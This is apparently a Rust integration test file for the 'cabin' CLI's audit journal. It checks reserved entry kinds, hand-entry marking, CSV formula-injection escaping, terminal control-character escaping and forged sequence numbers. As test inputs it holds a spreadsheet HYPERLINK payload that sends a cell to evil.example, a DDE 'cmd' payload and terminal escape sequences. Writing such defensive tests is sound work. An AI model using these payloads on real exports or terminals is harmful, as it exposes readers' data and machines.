//! An audit trail auditors can trust (issue 13), through the real binary: cabin's own kinds
//! cannot be appended by hand and hand entries are marked in every export; no stress command in
//! the product; exports and `tail` cannot attack their reader; a forged u64::MAX seq is damage;
//! a relative `journal:` in the config resolves against the config file's directory.
use std::path::Path;
use std::process::{Command, Output};

use cabin::journal::entry::{Actor, Entry, GENESIS_PREV};
use chrono::{TimeZone, Utc};

/// `cabin journal ARGS --journal PATH` with a private HOME/XDG (no user config is read).
fn cabin(home: &Path, journal: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_cabin"))
        .arg("journal")
        .args(args)
        .arg("--journal")
        .arg(journal)
        .env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_DATA_HOME", home.join("data"))
        .env_remove("CABIN_JOURNAL")
        .output()
        .unwrap()
}

fn text(o: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
}

fn ok(o: Output) -> String {
    assert!(o.status.success(), "{}", text(&o));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

#[test]
fn cabins_own_kinds_are_refused_and_hand_entries_are_marked_in_every_export() {
    let dir = tempfile::tempdir().unwrap();
    let j = dir.path().join("j.jsonl");
    for kind in ["session-start", "read-only-session", "journal-repaired", "rollout-step", "rollback", "change-approved", "backup-created"]
    {
        let o = cabin(dir.path(), &j, &["append", "--kind", kind, "--message", "forged"]);
        assert_eq!(o.status.code(), Some(2), "{kind}: {}", text(&o));
        assert!(text(&o).contains("is reserved for entries cabin writes itself"), "{}", text(&o));
    }
    assert!(!j.exists(), "a refused append does not even create the journal");
    ok(cabin(dir.path(), &j, &["append", "--change", "CHG-1", "--kind", "cab-note", "--message", "approved in the CAB"]));

    let entries = cabin::journal::read_entries(&j).unwrap();
    let hand = entries.last().unwrap();
    assert!(hand.by_hand() && hand.details["byHand"] == serde_json::json!(true), "{hand:?}");
    assert!(!entries[0].by_hand(), "the genesis entry is cabin's");

    let csv = ok(cabin(dir.path(), &j, &["export", "--format", "csv"]));
    let mut lines = csv.lines();
    assert!(lines.next().unwrap().starts_with("seq,ts,change,kind,origin,outcome,"), "{csv}");
    assert!(lines.next().unwrap().contains(",genesis,cabin,"), "{csv}");
    assert!(lines.next().unwrap().contains(",CHG-1,cab-note,hand,"), "{csv}");
    let md = ok(cabin(dir.path(), &j, &["export", "--format", "md"]));
    assert!(md.contains("| [by hand] cab-note |"), "{md}");
    let json = ok(cabin(dir.path(), &j, &["export", "--format", "json"]));
    assert!(json.contains("\"byHand\": true"), "{json}");
    let tail = ok(cabin(dir.path(), &j, &["tail"]));
    assert!(tail.contains("[by hand] cab-note"), "{tail}");
}

#[test]
fn the_stress_command_is_not_in_the_product() {
    let dir = tempfile::tempdir().unwrap();
    let j = dir.path().join("j.jsonl");
    let o = cabin(dir.path(), &j, &["stress", "--count", "3"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("unrecognized subcommand 'stress'"), "{}", text(&o));
    assert!(!j.exists());
}

#[test]
fn csv_cells_never_become_spreadsheet_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let j = dir.path().join("j.jsonl");
    let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    ok(cabin(dir.path(), &j, &["append", "--change", "@SUM(A1:A9)", "--message", attack, "--outcome", "+1-1"]));
    ok(cabin(dir.path(), &j, &["append", "--change=-2+3", "--message", "\tcmd|' /C calc'!A0"]));
    let csv = ok(cabin(dir.path(), &j, &["export", "--format", "csv"]));
    let rows: Vec<&str> = csv.split("\r\n").skip(2).filter(|r| !r.is_empty()).collect();
    assert_eq!(rows.len(), 2, "{csv}");
    assert!(rows[0].contains(",\"'@SUM(A1:A9)\",note,hand,\"'+1-1\","), "{}", rows[0]);
    assert!(rows[1].contains(",\"'-2+3\",note,hand,"), "{}", rows[1]);
    // No cell of any row starts with a formula character.
    for row in &rows {
        for cell in split_csv(row) {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "cell {cell:?} in {row}");
        }
    }
}

/// Splits one RFC 4180 row into unquoted cell values.
fn split_csv(row: &str) -> Vec<String> {
    let (mut cells, mut cur, mut quoted, mut chars) = (Vec::new(), String::new(), false, row.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cur.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(std::mem::take(&mut cur)),
            (c, _) => cur.push(c),
        }
    }
    cells.push(cur);
    cells
}

#[test]
fn tail_and_markdown_show_control_characters_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let j = dir.path().join("j.jsonl");
    ok(cabin(dir.path(), &j, &["append", "--message", "clear\u{1b}[2J\u{1b}]0;pwned\u{7} next\nline \u{202e}txt"]));
    let tail = ok(cabin(dir.path(), &j, &["tail"]));
    assert!(!tail.contains(['\u{1b}', '\u{7}', '\u{202e}']), "raw control characters in {tail:?}");
    assert!(tail.contains("clear\\e[2J\\e]0;pwned\\x07 next\\nline \\u{202e}txt"), "{tail}");
    let md = ok(cabin(dir.path(), &j, &["export", "--format", "md"]));
    assert!(!md.contains(['\u{1b}', '\u{7}', '\u{202e}']), "raw control characters in the report");
}

#[test]
fn a_forged_u64_max_seq_is_reported_as_damage() {
    let dir = tempfile::tempdir().unwrap();
    let j = dir.path().join("j.jsonl");
    ok(cabin(dir.path(), &j, &["append", "--message", "first"]));
    let text_before = std::fs::read_to_string(&j).unwrap();
    let last: Entry = serde_json::from_str(text_before.lines().last().unwrap()).unwrap();
    let mut forged = Entry {
        seq: u64::MAX,
        ts: Utc.timestamp_opt(4_000_000_000, 0).unwrap(),
        actor: Actor { cluster_user: None, local_user: "mallory".into(), host: "h".into() },
        cluster: None,
        change: None,
        kind: "note".into(),
        targets: vec![],
        outcome: None,
        details: serde_json::json!({}),
        prev: last.hash.clone(),
        hash: String::new(),
    };
    let line = forged.seal().unwrap();
    let mut bytes = text_before.into_bytes();
    bytes.extend_from_slice(&line);
    std::fs::write(&j, &bytes).unwrap();
    let o = cabin(dir.path(), &j, &["append", "--message", "next"]);
    assert_eq!(o.status.code(), Some(2), "no panic, no wrap: {}", text(&o));
    assert!(text(&o).contains("is damaged (its last entry has seq 18446744073709551615"), "{}", text(&o));
    assert_eq!(std::fs::read(&j).unwrap(), bytes, "nothing appended");
    assert_ne!(GENESIS_PREV, last.hash);
}

#[test]
fn a_relative_journal_in_the_config_is_next_to_the_config_not_the_working_directory() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("config/cabin");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(config.join("config.yaml"), "journal: audit/journal.jsonl\n").unwrap();
    let elsewhere = home.path().join("somewhere-else");
    std::fs::create_dir_all(&elsewhere).unwrap();
    for cwd in [&elsewhere, &home.path().to_path_buf()] {
        let o = Command::new(env!("CARGO_BIN_EXE_cabin"))
            .args(["journal", "append", "--message", "from a shell somewhere"])
            .current_dir(cwd)
            .env("HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path().join("config"))
            .env("XDG_DATA_HOME", home.path().join("data"))
            .env_remove("CABIN_JOURNAL")
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", text(&o));
    }
    assert!(!elsewhere.join("audit").exists(), "the trail split by working directory");
    let entries = cabin::journal::read_entries(&config.join("audit/journal.jsonl")).unwrap();
    assert_eq!(entries.len(), 3, "one trail: genesis and both notes");
}
